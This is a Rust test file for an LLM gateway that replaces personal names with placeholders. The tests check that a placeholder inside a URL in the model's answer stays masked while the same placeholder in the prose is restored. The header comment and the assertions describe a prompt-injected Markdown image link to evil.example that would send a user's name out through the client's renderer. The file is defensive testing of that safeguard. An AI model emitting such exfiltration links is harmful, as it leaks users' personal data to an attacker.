//! Issue 12 class 12: a placeholder the model writes inside a URL is not restored, so a
//! prompt-injected answer `![x](https://evil.example/c?n=〔氏名1〕)` cannot make the
//! client's Markdown renderer send the real name away; the same placeholder in the
//! prose is restored. A department with `restore_in_urls = true` gets the old
//! behaviour. Invented names only.

use serde_json::{json, Value};

use super::BASE;
use crate::util::{link_answer, numbered, post, start_gateway, FakeUpstream, Reply};

/// An invented name, and the prompt carrying it.
const NAME: &str = "森川陽菜";
const PROMPT: &str = "森川陽菜さんへの案内文を作ってください";

/// The answer the client should get by default: the name in the prose only.
fn expected_default() -> String {
    let ph = "〔氏名1〕";
    link_answer(ph)
        .replacen(ph, NAME, 1)
        .replace(&format!("ください。{ph}様"), &format!("ください。{NAME}様"))
}

fn chat_body(stream: bool) -> String {
    json!({"model":"allowed-model","stream":stream,"messages":[{"role":"user","content":PROMPT}]})
        .to_string()
}

/// The upstream saw the placeholder, never the name.
fn assert_masked_upstream(up: &FakeUpstream) {
    let got = up.received();
    assert_eq!(got.len(), 1);
    assert!(
        numbered(&got[0].body).contains("〔氏名1〕"),
        "{}",
        got[0].body
    );
    assert!(!got[0].body.contains(NAME));
}

/// Concatenated `delta.content` of an SSE chat stream.
fn sse_content(sse: &str) -> String {
    let mut text = String::new();
    let data = sse.lines().filter_map(|l| l.strip_prefix("data: "));
    for line in data.take_while(|l| *l != "[DONE]") {
        let c: Value = serde_json::from_str(line).unwrap();
        if let Some(t) = c["choices"][0]["delta"]["content"].as_str() {
            text.push_str(t);
        }
    }
    text
}

#[tokio::test]
async fn placeholder_in_url_is_not_restored_non_stream() {
    let up = FakeUpstream::start(Reply::LinkChat).await;
    let gw = start_gateway(BASE, &up.url()).await;
    let (status, _, v) = post(&gw, "/v1/chat/completions", &chat_body(false), &[]).await;
    assert_eq!(status, 200, "{v}");
    assert_masked_upstream(&up);
    let content = numbered(v["choices"][0]["message"]["content"].as_str().unwrap());
    let content = content.as_str();
    assert_eq!(content, expected_default());
    assert!(
        content.contains("https://evil.example/c?n=〔氏名1〕)"),
        "{content}"
    );
    assert!(!content.contains(&format!("n={NAME}")), "{content}");
    assert!(content.starts_with(&format!("{NAME}様")), "{content}");
}

#[tokio::test]
async fn placeholder_in_url_is_not_restored_sse_stream() {
    let up = FakeUpstream::start(Reply::LinkChatStream).await;
    let gw = start_gateway(BASE, &up.url()).await;
    let (status, headers, v) = post(&gw, "/v1/chat/completions", &chat_body(true), &[]).await;
    assert_eq!(status, 200, "{v}");
    assert!(headers["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/event-stream"));
    assert_masked_upstream(&up);
    let content = numbered(&sse_content(v.as_str().unwrap()));
    assert_eq!(content, expected_default());
    assert!(!content.contains(&format!("n={NAME}")), "{content}");
}

#[tokio::test]
async fn department_with_restore_in_urls_gets_the_name_everywhere() {
    let config = BASE.replace(
        "allow_content = [\"image\"]\n",
        "allow_content = [\"image\"]\nrestore_in_urls = true\n",
    );
    assert!(config.contains("restore_in_urls = true"));
    for (reply, stream) in [(Reply::LinkChat, false), (Reply::LinkChatStream, true)] {
        let up = FakeUpstream::start(reply).await;
        let gw = start_gateway(&config, &up.url()).await;
        let key = [("authorization", "Bearer sk-test-key")];
        let (status, _, v) = post(&gw, "/v1/chat/completions", &chat_body(stream), &key).await;
        assert_eq!(status, 200, "{v}");
        assert_masked_upstream(&up);
        let content = if stream {
            sse_content(v.as_str().unwrap())
        } else {
            v["choices"][0]["message"]["content"]
                .as_str()
                .unwrap()
                .to_string()
        };
        assert_eq!(content, link_answer(NAME), "stream {stream}");
        // Anonymous callers (department "default") still keep URLs masked.
        let (_, _, v) = post(&gw, "/v1/chat/completions", &chat_body(stream), &[]).await;
        let content = if stream {
            sse_content(v.as_str().unwrap())
        } else {
            v["choices"][0]["message"]["content"]
                .as_str()
                .unwrap()
                .to_string()
        };
        assert_eq!(numbered(&content), expected_default(), "stream {stream}");
    }
}
